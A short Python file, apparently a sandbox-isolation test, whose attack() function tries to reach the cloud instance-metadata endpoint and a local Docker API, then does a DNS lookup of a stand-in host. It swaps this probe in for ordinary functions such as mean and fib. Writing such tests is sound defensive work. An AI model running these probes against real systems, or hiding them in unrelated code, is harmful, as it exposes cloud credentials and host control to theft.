import socket
import urllib.request

from attacker import wins_if


def attack(value):
    for url in ("http://169.254.169.254/latest/meta-data/", "http://localhost:2375/info"):
        try:
            return urllib.request.urlopen(url, timeout=0.1).read()
        except OSError:
            pass
    return socket.getaddrinfo("answer.example.org", 80)


mean = is_palindrome = word_count = fib = wins_if(attack)
